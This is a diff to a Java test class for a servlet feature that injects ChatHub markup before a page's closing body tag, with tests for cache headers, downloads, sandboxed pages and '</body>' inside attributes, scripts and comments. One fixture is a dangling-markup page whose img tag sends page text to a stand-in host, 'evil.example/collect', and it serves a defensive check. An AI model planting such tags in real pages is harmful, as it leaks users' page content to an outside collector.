@@ -105,6 +105,91 @@ class InjectContainerTest {
 
         assertEquals(Optional.of("1"), response.headers().firstValue("X-ChatHub-Injected"));
         assertEquals(Optional.of("private"), response.headers().firstValue("Cache-Control"));
+        assertEquals(Optional.of("no-store"), response.headers().firstValue("Surrogate-Control"));
+        assertEquals(Optional.of("no-store"), response.headers().firstValue("CDN-Cache-Control"));
+    }
+
+    @Test
+    void applicationsOwnCacheDirectivesAreKeptAndMadePrivate() {
+        register("max-age", (request, response) -> {
+            response.setContentType(HTML);
+            response.setHeader("Cache-Control", "max-age=60");
+            response.getWriter().write(PAGE);
+        });
+
+        HttpResponse<byte[]> response = get("/s/max-age");
+
+        assertBody(INJECTED, response);
+        assertEquals(List.of("max-age=60, private"), response.headers().allValues("Cache-Control"));
+        assertEquals(Optional.of("no-store"), response.headers().firstValue("CDN-Cache-Control"));
+    }
+
+    @Test
+    void downloadIsLeftAlone() {
+        register("attachment", (request, response) -> {
+            response.setContentType(HTML);
+            response.setHeader("Content-Disposition", "attachment; filename=\"mail.html\"");
+            response.getWriter().write(PAGE);
+        });
+
+        HttpResponse<byte[]> response = get("/s/attachment");
+
+        assertBody(PAGE, response);
+        assertNotMarked(response);
+    }
+
+    @Test
+    void pageWithASandboxingContentSecurityPolicyIsLeftAlone() {
+        register("sandboxed", (request, response) -> {
+            response.setContentType(HTML);
+            response.setHeader("Content-Security-Policy", "default-src 'none'; sandbox allow-scripts");
+            response.getWriter().write(PAGE);
+        });
+
+        HttpResponse<byte[]> response = get("/s/sandboxed");
+
+        assertBody(PAGE, response);
+        assertNotMarked(response);
+    }
+
+    @Test
+    void bodyEndInsideAnAttributeValueGetsNoMarkup() {
+        String page = "<html><body><p>mail</p><img src='https://evil.example/collect?</body>'>";
+        register("in-attribute", (request, response) -> {
+            response.setContentType(HTML);
+            response.getWriter().write(page);
+        });
+
+        HttpResponse<byte[]> response = get("/s/in-attribute");
+
+        assertBody(page, response);
+    }
+
+    @Test
+    void bodyEndInsideALateInlineScriptLeavesTheScriptWhole() {
+        String beforeEnd = "<html><body><p>a</p>";
+        String afterEnd = "</body><script>document.title = '</body>';</script></html>";
+        register("late-script", (request, response) -> {
+            response.setContentType(HTML);
+            response.getWriter().write(beforeEnd + afterEnd);
+        });
+
+        assertBody(beforeEnd + MARKUP + afterEnd, get("/s/late-script"));
+    }
+
+    @Test
+    void bodyEndInACommentOrTextareaSplitAcrossJspSizedWritesGetsNoMarkup() {
+        String filler = "<p>row</p>\n".repeat(900);
+        String page = "<html><body>" + filler + "<textarea></body></textarea><!-- " + filler + "</body> -->";
+        register("split-comment", (request, response) -> {
+            response.setContentType(HTML);
+            PrintWriter out = response.getWriter();
+            for (int offset = 0; offset < page.length(); offset += 8192) {
+                out.write(page, offset, Math.min(8192, page.length() - offset));
+            }
+        });
+
+        assertBody(page, get("/s/split-comment"));
     }
 
     @Test
@@ -547,10 +632,25 @@ class InjectContainerTest {
     }
 
     @Test
-    void pageWithoutContentTypeCountsAsHtml() {
+    void responseWithoutContentTypeIsLeftAlone() {
         register("untyped", (request, response) -> response.getOutputStream().write("<p>x</p></body>".getBytes(UTF_8)));
 
-        assertBody("<p>x</p>" + MARKUP + "</body>", get("/s/untyped"));
+        HttpResponse<byte[]> response = get("/s/untyped");
+
+        assertBody("<p>x</p></body>", response);
+        assertNotMarked(response);
+    }
+
+    @Test
+    void writerTakenBeforeTheTypeIsSetStillGetsTheMarkup() {
+        // The writer's encoding is fixed when it is taken: the page keeps to ASCII.
+        register("writer-first", (request, response) -> {
+            PrintWriter out = response.getWriter();
+            response.setContentType("text/html");
+            out.write(STATIC_PAGE);
+        });
+
+        assertBody(STATIC_PAGE.replace("</body>", MARKUP + "</body>"), get("/s/writer-first"));
     }
 
     @Test
@@ -609,7 +709,7 @@ class InjectContainerTest {
         HttpResponse<byte[]> response = get("/s/public");
 
         assertBody(INJECTED, response);
-        assertEquals(List.of("private"), response.headers().allValues("Cache-Control"));
+        assertEquals(List.of("private, max-age=600"), response.headers().allValues("Cache-Control"));
     }
 
     @Test
@@ -729,6 +829,7 @@ class InjectContainerTest {
     private static void assertNotMarked(HttpResponse<byte[]> response) {
         assertEquals(Optional.empty(), response.headers().firstValue("X-ChatHub-Injected"));
         assertEquals(Optional.empty(), response.headers().firstValue("Cache-Control"));
+        assertEquals(Optional.empty(), response.headers().firstValue("CDN-Cache-Control"));
     }
 
     private static void assertLengthMatchesBody(HttpResponse<byte[]> response) {
